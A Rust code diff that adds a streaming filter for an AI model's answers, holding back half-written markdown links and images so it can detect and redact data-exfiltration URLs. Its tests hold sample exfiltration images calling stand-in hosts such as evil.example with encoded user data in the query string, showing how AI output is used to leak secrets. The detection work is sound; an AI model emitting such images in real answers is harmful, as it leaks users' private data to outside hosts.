@@ -123,3 +123,147 @@ mod tests {
         assert_eq!(f[0].kind, "system_prompt_leak");
     }
 }
+
+/// Longest link or image held back while it is still being written.
+pub const MAX_HELD: usize = 2048;
+
+/// Where a link or image that may still be unfinished starts in `s`, if anywhere.
+fn open_link(s: &str) -> Option<usize> {
+    let mut best = None;
+    if let Some(i) = s.rfind('[') {
+        let after = &s[i..];
+        let open = match after.find(']') {
+            None => true,
+            Some(j) => {
+                let rest = &after[j + 1..];
+                rest.is_empty() || (rest.starts_with('(') && !rest.contains(')'))
+            }
+        };
+        if open {
+            // Include the `!` of an image.
+            best = Some(if i > 0 && s.as_bytes()[i - 1] == b'!' {
+                i - 1
+            } else {
+                i
+            });
+        }
+    }
+    if let Some(i) = s.rfind('<') {
+        let after = &s[i..];
+        let maybe_img = "<img".starts_with(&after[..after.len().min(4)].to_ascii_lowercase())
+            || after.to_ascii_lowercase().starts_with("<img");
+        if maybe_img && !after.contains('>') {
+            best = Some(best.map_or(i, |b: usize| b.min(i)));
+        }
+    }
+    best.filter(|&b| s.len() - b <= MAX_HELD)
+}
+
+/// Screens a streamed answer for exfiltration links and images: text passes at once
+/// except a link or image still being written, which waits until it is complete (or
+/// [`MAX_HELD`] bytes long), so a URL split across chunks is judged whole.
+#[derive(Debug, Default)]
+pub struct LinkGate {
+    pending: String,
+    /// Kinds found so far.
+    pub found: Vec<&'static str>,
+    /// Replace exfiltration URLs with `[BLOCKED_URL]` (else only record them).
+    pub redact: bool,
+}
+
+impl LinkGate {
+    pub fn new(redact: bool) -> Self {
+        LinkGate {
+            redact,
+            ..LinkGate::default()
+        }
+    }
+
+    fn screen(&mut self, text: &str) -> String {
+        let mut f = Vec::new();
+        scan(text, &mut f);
+        if f.is_empty() {
+            return text.to_owned();
+        }
+        self.found.extend(f.iter().map(|x| x.kind));
+        if !self.redact {
+            return text.to_owned();
+        }
+        let mut out = String::with_capacity(text.len());
+        let mut at = 0;
+        for x in &f {
+            out.push_str(&text[at..x.start]);
+            out.push_str("[BLOCKED_URL]");
+            at = x.end;
+        }
+        out.push_str(&text[at..]);
+        out
+    }
+
+    /// Screened text that can be sent now.
+    pub fn push(&mut self, piece: &str) -> String {
+        self.pending.push_str(piece);
+        let cut = open_link(&self.pending).unwrap_or(self.pending.len());
+        let ready: String = self.pending.drain(..cut).collect();
+        self.screen(&ready)
+    }
+
+    /// Whatever is held back, at the end of the stream.
+    pub fn finish(&mut self) -> String {
+        let rest = std::mem::take(&mut self.pending);
+        self.screen(&rest)
+    }
+}
+
+#[cfg(test)]
+mod gate_tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    fn whole(text: &str) -> String {
+        let mut g = LinkGate::new(true);
+        g.push(text) + &g.finish()
+    }
+
+    #[test]
+    fn a_split_image_is_judged_whole() {
+        let text = "Here: ![x](https://evil.example/p?d=am9obkBleGFtcGxlLmNvbSBwYXNzd29yZA) done, see [docs](https://docs.example.com/a) [1].";
+        let want = "Here: ![x]([BLOCKED_URL]) done, see [docs](https://docs.example.com/a) [1].";
+        assert_eq!(whole(text), want);
+        for i in 0..=text.len() {
+            let mut g = LinkGate::new(true);
+            let got = g.push(&text[..i]) + &g.push(&text[i..]) + &g.finish();
+            assert_eq!(got, want, "split at {i}");
+        }
+    }
+
+    #[test]
+    fn ordinary_brackets_are_not_held() {
+        let mut g = LinkGate::new(true);
+        assert_eq!(g.push("see [1] and a < b "), "see [1] and a < b ");
+        assert_eq!(g.push("then [docs"), "then ");
+        assert_eq!(g.push("]"), "");
+        assert_eq!(g.push(" ok"), "[docs] ok");
+    }
+
+    proptest! {
+        /// Chunking never changes the result.
+        #[test]
+        fn chunking_invariant(
+            parts in proptest::collection::vec(prop_oneof![
+                "[a-z <>!\\[\\]()/.:?=]{0,8}",
+                Just("![i](https://e.example/x?q=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=)".to_owned()),
+                Just("[t](https://d.example/y)".to_owned()),
+                Just("<img src=\"https://e.example/c?q=%61%62%63%64%65\">".to_owned()),
+            ], 0..8),
+            cut in 0usize..200,
+        ) {
+            let text = parts.concat();
+            let mut c = cut.min(text.len());
+            while !text.is_char_boundary(c) { c -= 1; }
+            let mut g = LinkGate::new(true);
+            let got = g.push(&text[..c]) + &g.push(&text[c..]) + &g.finish();
+            prop_assert_eq!(got, whole(&text));
+        }
+    }
+}
